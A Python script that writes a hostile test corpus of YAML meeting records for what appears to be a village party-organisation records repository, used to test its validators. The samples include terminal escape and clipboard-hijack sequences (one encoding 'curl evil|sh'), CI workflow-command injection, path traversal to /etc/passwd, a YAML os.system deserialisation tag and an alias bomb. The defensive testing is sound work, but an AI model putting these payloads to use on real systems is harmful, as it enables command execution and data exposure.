"""Writes the hostile corpus (``hostile/``) from the table below; run it after editing the table.

Each file is one kind of attack on a record repository, placed where a pull request would put
it. ``tests/test_hostile_corpus.py`` runs every command on a repository holding all of them.
Files too large to keep in Git, and names Git cannot hold on every system, are made by the test.
"""

from __future__ import annotations

import shutil
from pathlib import Path

HERE = Path(__file__).resolve().parent / "hostile"
FOLDER = "records/activities/2025/hexi-village"


def record(stem: str, **fields: str) -> str:
    base = {
        "id": f"2025-hexi-village-{stem}",
        "type": "special_study",
        "organization": "hexi-village",
        "date": '"2025-04-01"',
        "title": "意识形态工作专题研究会议",
        "lead": "m-zhou-ming",
        "participants": "[m-zhou-ming, m-wu-hua]",
        "summary": "研究意识形态工作。",
    }
    base.update(fields)
    return "".join(f"{k}: {v}\n" for k, v in base.items() if v != "")


def evidence(path: str) -> str:
    return f'\n  - title: 会议记录\n    file: "{path}"\n    sha256: {"0" * 64}'


CORPUS: dict[str, str | bytes] = {
    # control characters: terminal escapes, CI commands, line breaks in one-line fields
    "ansi-title": record("ansi-title", title='"\\e[2J\\e]0;pwned\\a会议"'),
    "osc52-clipboard": record("osc52-clipboard", summary='"\\e]52;c;Y3VybCBldmlsfHNo\\a"'),
    "ci-command-title": record("ci-command-title", title='"会议\\n::set-env name=PATH::/tmp"'),
    "ci-command-cr": record("ci-command-cr", title='"会议\\r::add-path::/tmp"'),
    "ci-percent-lead": record("ci-percent-lead", lead='"m-zhou-ming%0A::error::x"'),
    "crlf-participant": record("crlf-participant", participants='["m-zhou-ming\\r\\n::stop-commands::x"]'),
    "block-title": record("block-title", title="|\n  第一行\n  ::warning::第二行"),
    "bidi-summary": record("bidi-summary", summary='"研究\\u202e议会\\u202c。"'),
    "c1-csi": record("c1-csi", title='"会议\\x9b2J"'),
    "line-separator": record("line-separator", title='"会议\\L::notice::x"'),
    "nul-title": record("nul-title", title='"会议\\0"'),
    "surrogate": record("surrogate", title='"会议\\ud800"'),
    "noncharacter": record("noncharacter", summary='"研究\\uffff"'),
    "control-key": record("control-key", **{'"x\\e[31m"': "1"}),
    # paths
    "nul-evidence-path": record("nul-evidence-path", evidence=evidence("records/evidence/a\\0b.txt")),
    "long-evidence-path": record("long-evidence-path", evidence=evidence("records/evidence/" + "证" * 100 + ".pdf")),
    "outside-evidence": record("outside-evidence", evidence=evidence("../../../etc/passwd")),
    "absolute-evidence": record("absolute-evidence", evidence=evidence("/etc/passwd").replace('"/etc', '"/etc')),
    # private numbers as typed
    "phone-fullwidth": record("phone-fullwidth", summary="群众来电１３９－１２３４－５６７８反映问题。"),
    "phone-spaced-86": record("phone-spaced-86", summary="联系 +86 139 1234 5678。"),
    "phone-zero-width": record("phone-zero-width", summary="联系139\u200b1234\u200b5678。"),
    "phone-escape": record("phone-escape", title='"来电\\u0031\\u0033\\u0039\\u0031\\u0032\\u0033\\u0034\\u0035\\u0036\\u0037\\u0038"'),
    "phone-folded": record("phone-folded", summary=">-\n  群众来电 139\n  1234 5678"),
    "phone-comment": record("phone-comment") + "# 联系人 0086-139-1234-5678\n",
    "id-spaced-x": record("id-spaced-x", summary="涉及人员 110105 19491231 002x。"),
    "id-fullwidth": record("id-fullwidth", summary="身份证１１０１０５１９４９１２３１００２Ｘ"),
    # YAML that asks too much of a reader
    "alias-bomb": "a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]\n",
    "python-tag": "id: !!python/object/apply:os.system ['echo pwned']\n",
    "merge-key": "base: &b {type: special_study}\n<<: *b\nid: 2025-hexi-village-merge-key\n",
    "deep-flow": "x: " + "[" * 40 + "]" * 40 + "\n",
    "deep-block": "".join(f"{'  ' * i}k{i}:\n" for i in range(40)) + "  " * 40 + "v\n",
    "deep-dashes": "- " * 60 + "x\n",
    "many-errors": record("many-errors", participants="[" + ", ".join(f"m-nobody-{i}" for i in range(400)) + "]"),
    "long-value": record("long-value", lead="m-" + "x" * 20_000),
    "long-key": record("long-key", **{"k" * 20_000: "1"}),
    "two-documents": record("two-documents") + "---\n" + record("two-documents"),
    "not-a-mapping": "- a\n- b\n",
    "utf16": record("utf16").encode("utf-16"),
    "gbk": record("gbk").encode("gb18030"),
    "binary": bytes(range(256)) * 4,
    "empty": "",
    "bom-only": b"\xef\xbb\xbf",
}

OTHERS: dict[str, str | bytes] = {
    # an organisation and a plan that are broken: the portal leaves them out with a banner
    "records/organizations/evil-org.yaml": (
        'id: evil-org\nname: "坏组织\\e[31m"\nkind: branch\ncategory: village\nparent: town\n'
        'founded: "2020-01-01"\nmembers:\n  - id: m-evil\n    name: "某\\r\\n::set-output name=x::y"\n'
        '    role: secretary\n    from: "2020-01-01"\n'
    ),
    "records/plans/deep-plan.yaml": "x: " + "{a: " * 50 + "1" + "}" * 50 + "\n",
    "records/evidence/2025/hexi-village/phone.txt": "会议记录\n联系人电话：139 1234 5678\n",
    "records/evidence/2025/hexi-village/id.csv": "姓名,身份证号\n某某,11010519491231002X\n",
}


def main() -> None:
    shutil.rmtree(HERE, ignore_errors=True)
    for stem, content in CORPUS.items():
        target = HERE / FOLDER / f"2025-hexi-village-{stem}.yaml"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    for rel, content in OTHERS.items():
        target = HERE / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


if __name__ == "__main__":
    main()
